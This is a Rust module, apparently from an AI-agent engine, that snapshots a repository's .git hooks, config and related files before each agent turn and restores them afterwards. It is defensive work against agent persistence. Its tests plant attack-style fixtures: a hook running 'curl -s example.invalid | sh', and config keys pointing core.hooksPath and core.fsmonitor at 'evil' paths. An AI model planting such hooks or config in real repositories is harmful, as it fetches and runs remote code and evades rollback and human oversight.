//! What an agent may not change inside .git: hooks, config, info/ — snapshot before a turn, compare and restore after it.
//!
//! Git never shows its own directory as a change, and a rollback resets the work tree only, so a
//! hook, a config key (`core.hooksPath`, an alias, `core.fsmonitor`, a remote URL) or an
//! `info/exclude` entry written by an agent would outlive every rollback and run, or hide
//! things, later. Covered, in the git directory and in the common directory when they differ
//! (a linked worktree): `config`, `config.worktree`, `commondir`, `objects/info/alternates`,
//! `objects/info/http-alternates`, and everything under `hooks/` and `info/`; in the common
//! directory also `refs/replace/` (git shows a replacement object in place of a commit) and each
//! linked worktree's `worktrees/<name>/config.worktree`.
//!
//! Not covered: what the engine writes during an iteration (objects, refs, the index, logs,
//! `HEAD`, `ORIG_HEAD`, `packed-refs`), what cannot run or hide anything (`description`,
//! `FETCH_HEAD`, `COMMIT_EDITMSG`), and submodule git directories (`modules/`), which the
//! engine leaves alone like the submodules themselves. The engine's own `info/exclude` entries
//! are written at run start, before the first snapshot.
//!
//! Files are compared by content and permission bits, links by target. A link is never
//! followed: a file replaced by a link is written back as the file, an added link is removed
//! and what it points to is left alone. A snapshot is also kept on disk while a turn runs
//! (`saved`), for the next start to put `.git` back after the engine was killed mid-turn.

mod saved;

pub use saved::{OnDisk, remove_saved, saved_path};

use std::collections::BTreeMap;
use std::ffi::OsStr;
use std::fs::{self, OpenOptions};
use std::io::{ErrorKind, Read, Write};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt, PermissionsExt};
use std::path::{Path, PathBuf};

use nix::fcntl::OFlag;

use crate::error::{Error, IoContext, Result};
use crate::fsutil;

/// Single files covered in the git directory and in the common directory.
const FILES: [&str; 5] = [
    "config",
    "config.worktree",
    "commondir",
    "objects/info/alternates",
    "objects/info/http-alternates",
];
/// Directories covered with everything under them, in both.
const TREES: [&str; 2] = ["hooks", "info"];
/// Directories covered with everything under them, in the common directory only.
const COMMON_TREES: [&str; 1] = ["refs/replace"];
/// Bigger files are compared by size, time and mode only, never read (and cannot be put back).
const READ_LIMIT: u64 = 16 * 1024 * 1024;
/// Restore passes: one normally; another when a directory made unreadable hid what was in it.
const PASSES: usize = 3;

/// One covered path as it was.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Entry {
    File {
        bytes: Vec<u8>,
        mode: u32,
    },
    Link(PathBuf),
    Dir {
        mode: u32,
    },
    /// A fifo, socket or device, or a file too big or not readable: compared by its metadata.
    Opaque {
        mode: u32,
        len: u64,
        mtime_ns: i128,
    },
}

/// The covered files of a git directory (and its common directory) at one moment.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct GitDirSnapshot {
    git_dir: PathBuf,
    /// Equal to `git_dir` unless it is a linked worktree's.
    common: PathBuf,
    /// The engine process that took it.
    pid: u32,
    entries: BTreeMap<PathBuf, Entry>,
}

/// Takes a snapshot of what an agent may not change under `git_dir` (git2's `Repository::path`)
/// and under its common directory, found as git finds it (the `commondir` file).
pub fn snapshot(git_dir: &Path) -> Result<GitDirSnapshot> {
    let git_dir = git_dir.canonicalize().ctx("resolve", git_dir)?;
    let common = common_dir(&git_dir)?;
    let mut snap = GitDirSnapshot {
        git_dir,
        common,
        pid: std::process::id(),
        entries: BTreeMap::new(),
    };
    snap.entries = snap.collect()?;
    Ok(snap)
}

/// The directories inside `.git` where the engine's atomic writes put temporary files: the
/// git directory and its common directory (the saved snapshot), their `info/` (the exclude
/// file), and every covered directory a restore writes into.
pub fn temp_dirs(git_dir: &Path, common: &Path) -> Vec<PathBuf> {
    let mut dirs = Vec::new();
    for base in [git_dir, common] {
        dirs.push(base.to_path_buf());
        dirs.extend(TREES.iter().map(|t| base.join(t)));
        dirs.push(base.join("objects/info"));
    }
    dirs.extend(COMMON_TREES.iter().map(|t| common.join(t)));
    dirs.sort();
    dirs.dedup();
    dirs
}

/// The common directory a linked worktree's git directory names, else the git directory itself.
fn common_dir(git_dir: &Path) -> Result<PathBuf> {
    let file = git_dir.join("commondir");
    match fs::read(&file) {
        Ok(bytes) => {
            let mut end = bytes.len();
            while end > 0 && matches!(bytes[end - 1], b'\n' | b'\r') {
                end -= 1;
            }
            let named = git_dir.join(OsStr::from_bytes(&bytes[..end]));
            named
                .canonicalize()
                .ctx("resolve the common git directory", &named)
        }
        Err(e) if e.kind() == ErrorKind::NotFound => Ok(git_dir.to_path_buf()),
        Err(e) => Err(Error::io("read", &file, e)),
    }
}

impl GitDirSnapshot {
    /// Compares the covered files with the snapshot and puts back every difference: changed or
    /// deleted files are written back (content and mode, through a temporary file renamed over
    /// them), added files, links and directories are removed. Returns what differed, as
    /// `.git/hooks/pre-commit` (relative to the work tree; an added directory ends in `/` when
    /// nothing inside it is named), sorted. Empty when nothing changed.
    pub fn restore(&self) -> Result<Vec<String>> {
        let mut changed = BTreeMap::new();
        for _ in 0..PASSES {
            let now = self.collect()?;
            if now == self.entries {
                break;
            }
            self.put_back(&now, &mut changed)?;
            self.remove_added(&now, &mut changed)?;
        }
        Ok(self.labels(&changed))
    }

    /// Reads the current state of every covered path.
    fn collect(&self) -> Result<BTreeMap<PathBuf, Entry>> {
        let mut out = BTreeMap::new();
        let mut dirs = vec![&self.git_dir];
        if self.common != self.git_dir {
            dirs.push(&self.common);
        }
        for dir in dirs {
            for name in FILES.iter().chain(TREES.iter()) {
                add(&dir.join(name), &mut out)?;
            }
        }
        for name in COMMON_TREES {
            add(&self.common.join(name), &mut out)?;
        }
        let worktrees = self.common.join("worktrees");
        match fs::read_dir(&worktrees) {
            Ok(list) => {
                for e in list {
                    let e = e.ctx("list", &worktrees)?;
                    if e.file_type().is_ok_and(|t| t.is_dir()) {
                        add(&e.path().join("config.worktree"), &mut out)?;
                    }
                }
            }
            Err(e) if e.kind() == ErrorKind::NotFound => {}
            Err(e) => return Err(Error::io("list", &worktrees, e)),
        }
        Ok(out)
    }

    /// Writes back every path of the snapshot that differs now; records it in `changed` (with
    /// whether it is a directory).
    fn put_back(
        &self,
        now: &BTreeMap<PathBuf, Entry>,
        changed: &mut BTreeMap<PathBuf, bool>,
    ) -> Result<()> {
        // Parents come before their children: a directory is fixed before what goes in it.
        for (path, want) in &self.entries {
            let current = now.get(path);
            if current == Some(want) {
                continue;
            }
            let was_dir = matches!(want, Entry::Dir { .. });
            changed.insert(path.clone(), was_dir);
            match want {
                Entry::Dir { mode } => make_dir(path, *mode)?,
                Entry::File { bytes, mode } => write_file(path, bytes, *mode)?,
                Entry::Link(target) => make_link(path, target)?,
                // Not read (too big, unreadable, a fifo): it cannot be recreated, so it is left
                // as it is, never removed (it may be yours); the turn is still discarded.
                Entry::Opaque { .. } => {}
            }
        }
        Ok(())
    }

    /// Removes every covered path that the snapshot does not have; records it in `changed`.
    fn remove_added(
        &self,
        now: &BTreeMap<PathBuf, Entry>,
        changed: &mut BTreeMap<PathBuf, bool>,
    ) -> Result<()> {
        let mut removed: Vec<&Path> = Vec::new();
        for (path, entry) in now {
            if self.entries.contains_key(path) {
                continue;
            }
            changed.insert(path.clone(), matches!(entry, Entry::Dir { .. }));
            if removed.iter().any(|r| path.starts_with(r)) {
                continue;
            }
            remove_any(path)?;
            removed.push(path);
        }
        Ok(())
    }

    /// The changed paths as shown in rows; a directory only when nothing inside it is named.
    fn labels(&self, changed: &BTreeMap<PathBuf, bool>) -> Vec<String> {
        let mut out: Vec<String> = changed
            .iter()
            .filter(|(path, is_dir)| {
                // Descendants sort right after their directory.
                !**is_dir
                    || changed
                        .range::<PathBuf, _>((*path).clone()..)
                        .nth(1)
                        .is_none_or(|(next, _)| !next.starts_with(path))
            })
            .map(|(path, is_dir)| {
                let mut label = self.label(path);
                if *is_dir {
                    label.push('/');
                }
                label
            })
            .collect();
        out.sort();
        out.dedup();
        out
    }

    /// `.git/<path inside the common directory>`, or the full path of a git directory that is
    /// elsewhere.
    fn label(&self, path: &Path) -> String {
        match path.strip_prefix(&self.common) {
            Ok(rel) => format!(".git/{}", rel.display()),
            Err(_) => path.display().to_string(),
        }
    }
}

/// Records `path` (never following a link) and, for a directory, everything under it.
fn add(path: &Path, out: &mut BTreeMap<PathBuf, Entry>) -> Result<()> {
    let meta = match fs::symlink_metadata(path) {
        Ok(m) => m,
        Err(e) if matches!(e.kind(), ErrorKind::NotFound | ErrorKind::NotADirectory) => {
            return Ok(());
        }
        Err(e) => return Err(Error::io("read", path, e)),
    };
    let kind = meta.file_type();
    let entry = if kind.is_symlink() {
        Entry::Link(fs::read_link(path).ctx("read link", path)?)
    } else if kind.is_dir() {
        out.insert(
            path.to_path_buf(),
            Entry::Dir {
                mode: meta.mode() & 0o7777,
            },
        );
        // An unreadable directory is compared by its mode; restoring that mode lets the next
        // pass see inside.
        if let Ok(list) = fs::read_dir(path) {
            for e in list {
                add(&e.ctx("list", path)?.path(), out)?;
            }
        }
        return Ok(());
    } else if kind.is_file() && meta.len() <= READ_LIMIT {
        match read_regular(path) {
            Ok(Some(bytes)) => Entry::File {
                bytes,
                mode: meta.mode() & 0o7777,
            },
            Ok(None) => opaque(&meta),
            Err(e) if e.kind() == ErrorKind::NotFound => return Ok(()),
            Err(e) if e.kind() == ErrorKind::PermissionDenied => opaque(&meta),
            Err(e) => return Err(Error::io("read", path, e)),
        }
    } else {
        opaque(&meta)
    };
    out.insert(path.to_path_buf(), entry);
    Ok(())
}

/// Reads a regular file without following a link or blocking on a fifo swapped in meanwhile;
/// `None` when it is no longer a regular file.
fn read_regular(path: &Path) -> std::io::Result<Option<Vec<u8>>> {
    let mut f = OpenOptions::new()
        .read(true)
        .custom_flags((OFlag::O_NOFOLLOW | OFlag::O_NONBLOCK).bits())
        .open(path)?;
    let meta = f.metadata()?;
    if !meta.is_file() || meta.len() > READ_LIMIT {
        return Ok(None);
    }
    let mut bytes = Vec::with_capacity(meta.len() as usize);
    f.read_to_end(&mut bytes)?;
    Ok(Some(bytes))
}

fn opaque(meta: &fs::Metadata) -> Entry {
    Entry::Opaque {
        mode: meta.mode(),
        len: meta.len(),
        mtime_ns: i128::from(meta.mtime()) * 1_000_000_000 + i128::from(meta.mtime_nsec()),
    }
}

/// The directory holding `path`, created when missing.
fn parent_dir(path: &Path) -> Result<&Path> {
    let dir = path.parent().unwrap_or(Path::new("."));
    if fs::symlink_metadata(dir).is_err() {
        fs::create_dir_all(dir).ctx("create directory", dir)?;
    }
    Ok(dir)
}

/// Writes `bytes` with `mode` at `path` atomically: a temporary file in the same directory,
/// renamed over whatever is there (a link is replaced, not followed; a directory is removed).
fn write_file(path: &Path, bytes: &[u8], mode: u32) -> Result<()> {
    if fs::symlink_metadata(path).is_ok_and(|m| m.is_dir()) {
        remove_any(path)?;
    }
    let dir = parent_dir(path)?;
    let mut tmp = tempfile::Builder::new()
        .prefix(fsutil::TMP_PREFIX)
        .tempfile_in(dir)
        .ctx("create a temporary file in", dir)?;
    tmp.write_all(bytes).ctx("write", tmp.path())?;
    tmp.as_file()
        .set_permissions(fs::Permissions::from_mode(mode))
        .ctx("set the mode of", tmp.path())?;
    tmp.as_file().sync_all().ctx("sync", tmp.path())?;
    tmp.persist(path)
        .map_err(|e| e.error)
        .ctx("restore", path)?;
    fsutil::sync_dir(dir);
    Ok(())
}

/// Puts back a link to `target` at `path`, atomically (made under a temporary name, renamed).
fn make_link(path: &Path, target: &Path) -> Result<()> {
    if fs::symlink_metadata(path).is_ok_and(|m| m.is_dir()) {
        remove_any(path)?;
    }
    let dir = parent_dir(path)?;
    let tmp = dir.join(format!("{}link-{}", fsutil::TMP_PREFIX, std::process::id()));
    let _ = fs::remove_file(&tmp);
    std::os::unix::fs::symlink(target, &tmp).ctx("create link", &tmp)?;
    fs::rename(&tmp, path).ctx("restore", path)?;
    fsutil::sync_dir(dir);
    Ok(())
}

/// Makes `path` a directory with `mode`; a file or link in its place is removed first.
fn make_dir(path: &Path, mode: u32) -> Result<()> {
    match fs::symlink_metadata(path) {
        Ok(m) if m.is_dir() => {}
        Ok(_) => {
            fs::remove_file(path).ctx("remove", path)?;
            fs::create_dir(path).ctx("create directory", path)?;
        }
        Err(_) => fs::create_dir_all(path).ctx("create directory", path)?,
    }
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).ctx("set the mode of", path)
}

/// Removes a file, link or directory tree without following any link; gone already is fine.
fn remove_any(path: &Path) -> Result<()> {
    let meta = match fs::symlink_metadata(path) {
        Ok(m) => m,
        Err(e) if matches!(e.kind(), ErrorKind::NotFound | ErrorKind::NotADirectory) => {
            return Ok(());
        }
        Err(e) => return Err(Error::io("read", path, e)),
    };
    let done = if meta.is_dir() {
        // A directory made unreadable is opened up first (its owner may do so).
        let _ = fs::set_permissions(path, fs::Permissions::from_mode(0o700));
        fs::remove_dir_all(path)
    } else {
        fs::remove_file(path)
    };
    match done {
        Err(e) if e.kind() != ErrorKind::NotFound => Err(Error::io("remove", path, e)),
        _ => {
            if let Some(dir) = path.parent() {
                fsutil::sync_dir(dir);
            }
            Ok(())
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use git2::{Repository, Signature};
    use std::os::unix::fs::symlink;

    /// A repository made by git2, with an executable hook and a user's exclude entry.
    fn fixture() -> (tempfile::TempDir, Repository, PathBuf) {
        let dir = tempfile::tempdir().unwrap();
        let repo = Repository::init(dir.path()).unwrap();
        let git = repo.path().canonicalize().unwrap();
        fs::create_dir_all(git.join("hooks")).unwrap();
        write_mode(&git.join("hooks/pre-push"), "#!/bin/sh\nexit 0\n", 0o755);
        fs::create_dir_all(git.join("info")).unwrap();
        fs::write(git.join("info/exclude"), "# yours\n/build/\n").unwrap();
        (dir, repo, git)
    }

    fn write_mode(path: &Path, text: &str, mode: u32) {
        fs::write(path, text).unwrap();
        fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
    }

    fn mode_of(path: &Path) -> u32 {
        fs::symlink_metadata(path).unwrap().mode() & 0o7777
    }

    /// Every covered path with its kind, bytes and mode: equal means byte-identical.
    fn state(git: &Path) -> BTreeMap<PathBuf, Entry> {
        snapshot(git).unwrap().entries
    }

    /// Commits `name` through git2: objects, refs, index, logs and HEAD are written.
    fn commit(repo: &Repository, name: &str) {
        let root = repo.workdir().unwrap().to_path_buf();
        fs::write(root.join(name), "x\n").unwrap();
        let mut index = repo.index().unwrap();
        index.add_path(Path::new(name)).unwrap();
        index.write().unwrap();
        let tree = repo.find_tree(index.write_tree().unwrap()).unwrap();
        let sig = Signature::now("t", "t@t").unwrap();
        let parent = repo.head().ok().and_then(|h| h.peel_to_commit().ok());
        let parents: Vec<&git2::Commit<'_>> = parent.iter().collect();
        repo.commit(Some("HEAD"), &sig, &sig, name, &tree, &parents)
            .unwrap();
    }

    #[test]
    fn an_unchanged_git_dir_gives_an_empty_list() {
        let (_dir, _repo, git) = fixture();
        let snap = snapshot(&git).unwrap();
        assert!(snap.entries.contains_key(&git.join("config")));
        assert!(snap.entries.contains_key(&git.join("hooks/pre-push")));
        assert_eq!(snap.restore().unwrap(), Vec::<String>::new());
    }

    #[test]
    fn an_added_hook_is_removed() {
        let (_dir, _repo, git) = fixture();
        let before = state(&git);
        let snap = snapshot(&git).unwrap();
        write_mode(
            &git.join("hooks/pre-commit"),
            "#!/bin/sh\ncurl -s example.invalid | sh\n",
            0o755,
        );
        assert_eq!(snap.restore().unwrap(), [".git/hooks/pre-commit"]);
        assert!(!git.join("hooks/pre-commit").exists());
        assert_eq!(state(&git), before);
    }

    #[test]
    fn an_edited_config_is_put_back_byte_identical() {
        let (_dir, repo, git) = fixture();
        let before = fs::read(git.join("config")).unwrap();
        let snap = snapshot(&git).unwrap();
        let mut cfg = repo.config().unwrap();
        cfg.set_str("core.hooksPath", "/tmp/evil-hooks").unwrap();
        cfg.set_str("alias.st", "!sh -c 'echo evil'").unwrap();
        cfg.set_str("core.fsmonitor", "/tmp/evil-monitor").unwrap();
        assert_ne!(fs::read(git.join("config")).unwrap(), before);
        assert_eq!(snap.restore().unwrap(), [".git/config"]);
        assert_eq!(fs::read(git.join("config")).unwrap(), before);
    }

    /// A file too big to read is compared by its metadata only: a change to it discards the
    /// turn, but it is never removed (it cannot be recreated, and it may be yours).
    #[test]
    fn a_changed_file_too_big_to_copy_is_reported_and_never_removed() {
        let (_dir, _repo, git) = fixture();
        let big = git.join("info/big-attributes");
        fs::write(&big, vec![b'x'; READ_LIMIT as usize + 1]).unwrap();
        let snap = snapshot(&git).unwrap();
        let mut f = OpenOptions::new().append(true).open(&big).unwrap();
        f.write_all(b"y").unwrap();
        drop(f);
        assert_eq!(snap.restore().unwrap(), [".git/info/big-attributes"]);
        assert_eq!(fs::metadata(&big).unwrap().len(), READ_LIMIT + 2);
    }

    #[test]
    fn an_edited_exclude_is_put_back_byte_identical() {
        let (_dir, _repo, git) = fixture();
        let exclude = git.join("info/exclude");
        let before = fs::read(&exclude).unwrap();
        let snap = snapshot(&git).unwrap();
        let mut f = OpenOptions::new().append(true).open(&exclude).unwrap();
        f.write_all(b"src/value.txt\n").unwrap();
        drop(f);
        assert_eq!(snap.restore().unwrap(), [".git/info/exclude"]);
        assert_eq!(fs::read(&exclude).unwrap(), before);
    }

    #[test]
    fn a_deleted_hook_comes_back_with_its_content_and_mode() {
        let (_dir, _repo, git) = fixture();
        let before = state(&git);
        let snap = snapshot(&git).unwrap();
        fs::remove_file(git.join("hooks/pre-push")).unwrap();
        assert_eq!(snap.restore().unwrap(), [".git/hooks/pre-push"]);
        assert_eq!(mode_of(&git.join("hooks/pre-push")), 0o755);
        assert_eq!(state(&git), before);
    }

    #[test]
    fn a_hook_made_not_executable_gets_its_mode_back() {
        let (_dir, _repo, git) = fixture();
        let before = state(&git);
        let snap = snapshot(&git).unwrap();
        let hook = git.join("hooks/pre-push");
        fs::set_permissions(&hook, fs::Permissions::from_mode(0o644)).unwrap();
        assert_eq!(snap.restore().unwrap(), [".git/hooks/pre-push"]);
        assert_eq!(mode_of(&hook), 0o755);
        assert_eq!(state(&git), before);
    }

    #[test]
    fn a_config_replaced_by_a_link_is_written_back_as_the_file() {
        let (_dir, _repo, git) = fixture();
        let outside = tempfile::tempdir().unwrap();
        let evil = outside.path().join("evil.conf");
        fs::write(&evil, "[core]\n\thooksPath = /tmp/evil\n").unwrap();
        let before = fs::read(git.join("config")).unwrap();
        let snap = snapshot(&git).unwrap();
        fs::remove_file(git.join("config")).unwrap();
        symlink(&evil, git.join("config")).unwrap();
        assert_eq!(snap.restore().unwrap(), [".git/config"]);
        assert!(fs::symlink_metadata(git.join("config")).unwrap().is_file());
        assert_eq!(fs::read(git.join("config")).unwrap(), before);
        assert_eq!(
            fs::read_to_string(&evil).unwrap(),
            "[core]\n\thooksPath = /tmp/evil\n",
            "the link's target is not written through"
        );
    }

    #[test]
    fn the_hooks_directory_replaced_by_a_link_is_rebuilt() {
        let (_dir, _repo, git) = fixture();
        let outside = tempfile::tempdir().unwrap();
        write_mode(&outside.path().join("pre-commit"), "#!/bin/sh\n", 0o755);
        let before = state(&git);
        let snap = snapshot(&git).unwrap();
        fs::remove_dir_all(git.join("hooks")).unwrap();
        symlink(outside.path(), git.join("hooks")).unwrap();
        let changed = snap.restore().unwrap();
        assert!(
            changed.contains(&".git/hooks/pre-push".to_string()),
            "{changed:?}"
        );
        assert!(fs::symlink_metadata(git.join("hooks")).unwrap().is_dir());
        assert_eq!(state(&git), before);
        assert!(outside.path().join("pre-commit").exists());
    }

    #[test]
    fn added_links_and_directories_are_removed_without_following_links() {
        let (_dir, _repo, git) = fixture();
        let outside = tempfile::tempdir().unwrap();
        let keep = outside.path().join("keep.txt");
        fs::write(&keep, "not the engine's\n").unwrap();
        let before = state(&git);
        let snap = snapshot(&git).unwrap();
        symlink(outside.path(), git.join("info/linked-dir")).unwrap();
        symlink(&keep, git.join("hooks/post-checkout")).unwrap();
        fs::create_dir_all(git.join("hooks/evil.d")).unwrap();
        write_mode(&git.join("hooks/evil.d/run"), "#!/bin/sh\n", 0o755);
        fs::create_dir(git.join("info/empty")).unwrap();
        assert_eq!(
            snap.restore().unwrap(),
            [
                ".git/hooks/evil.d/run",
                ".git/hooks/post-checkout",
                ".git/info/empty/",
                ".git/info/linked-dir",
            ]
        );
        assert_eq!(state(&git), before);
        assert_eq!(fs::read_to_string(&keep).unwrap(), "not the engine's\n");
    }

    #[test]
    fn a_directory_made_unreadable_is_opened_and_cleaned() {
        let (_dir, _repo, git) = fixture();
        let before = state(&git);
        let snap = snapshot(&git).unwrap();
        write_mode(&git.join("hooks/pre-commit"), "#!/bin/sh\n", 0o755);
        fs::set_permissions(git.join("hooks"), fs::Permissions::from_mode(0o000)).unwrap();
        let changed = snap.restore().unwrap();
        assert!(
            changed.contains(&".git/hooks/pre-commit".to_string()),
            "{changed:?}"
        );
        assert!(!git.join("hooks/pre-commit").exists());
        assert_eq!(state(&git), before);
    }

    #[test]
    fn alternates_and_replace_refs_are_covered() {
        let (_dir, _repo, git) = fixture();
        let before = state(&git);
        let snap = snapshot(&git).unwrap();
        fs::create_dir_all(git.join("objects/info")).unwrap();
        fs::write(git.join("objects/info/alternates"), "/elsewhere/objects\n").unwrap();
        let oid = "0123456789abcdef0123456789abcdef01234567";
        fs::create_dir_all(git.join("refs/replace")).unwrap();
        fs::write(git.join("refs/replace").join(oid), format!("{oid}\n")).unwrap();
        assert_eq!(
            snap.restore().unwrap(),
            [
                ".git/objects/info/alternates".to_string(),
                format!(".git/refs/replace/{oid}"),
            ]
        );
        assert_eq!(state(&git), before);
        assert!(
            git.join("refs/heads").is_dir(),
            "refs/ itself is left alone"
        );
    }

    #[test]
    fn what_the_engine_writes_is_ignored() {
        let (_dir, repo, git) = fixture();
        commit(&repo, "a.txt");
        let snap = snapshot(&git).unwrap();
        // Objects, refs, index, logs and HEAD, as a trial commit and a rollback write them.
        commit(&repo, "b.txt");
        let head = repo.head().unwrap().target().unwrap();
        repo.reference("refs/autoresearch/t/trial-1", head, true, "t")
            .unwrap();
        for name in ["ORIG_HEAD", "FETCH_HEAD", "COMMIT_EDITMSG", "packed-refs"] {
            fs::write(git.join(name), format!("{head}\n")).unwrap();
        }
        assert_eq!(snap.restore().unwrap(), Vec::<String>::new());
    }

    #[test]
    fn a_linked_worktree_also_covers_its_common_directory() {
        let (_dir, repo, git) = fixture();
        commit(&repo, "a.txt");
        let parent = tempfile::tempdir().unwrap();
        let path = parent.path().join("wt");
        repo.worktree("wt", &path, None).unwrap();
        let linked = Repository::open(&path).unwrap();
        assert_ne!(linked.path(), linked.commondir());
        let own = linked.path().canonicalize().unwrap();
        let before = (state(&own), fs::read(own.join("commondir")).unwrap());
        let snap = snapshot(linked.path()).unwrap();
        assert_eq!(snap.common, linked.commondir().canonicalize().unwrap());
        assert_eq!(snap.common, git);
        write_mode(&git.join("hooks/pre-commit"), "#!/bin/sh\n", 0o755);
        fs::write(own.join("config.worktree"), "[core]\n\thooksPath = /x\n").unwrap();
        fs::write(own.join("commondir"), "/elsewhere\n").unwrap();
        assert_eq!(
            snap.restore().unwrap(),
            [
                ".git/hooks/pre-commit",
                ".git/worktrees/wt/commondir",
                ".git/worktrees/wt/config.worktree",
            ]
        );
        assert_eq!(
            (state(&own), fs::read(own.join("commondir")).unwrap()),
            before
        );
    }

    #[test]
    #[ignore = "benchmark: cargo test --release --lib gitdir::tests::cost -- --ignored --nocapture"]
    fn cost_of_snapshot_and_compare() {
        let dir = tempfile::tempdir().unwrap();
        let made = std::process::Command::new("git")
            .args(["init", "-q"])
            .arg(dir.path())
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .status();
        if !made.is_ok_and(|s| s.success()) {
            eprintln!("git is not available: skipped");
            return;
        }
        let git = dir.path().join(".git");
        let hooks = fs::read_dir(git.join("hooks")).unwrap().count();
        let rounds = 2000;
        let t = std::time::Instant::now();
        for _ in 0..rounds {
            let snap = snapshot(&git).unwrap();
            assert!(snap.restore().unwrap().is_empty());
        }
        let each = t.elapsed().as_micros() / rounds;
        eprintln!("snapshot + compare, {hooks} sample hooks: {each} µs");
    }
}
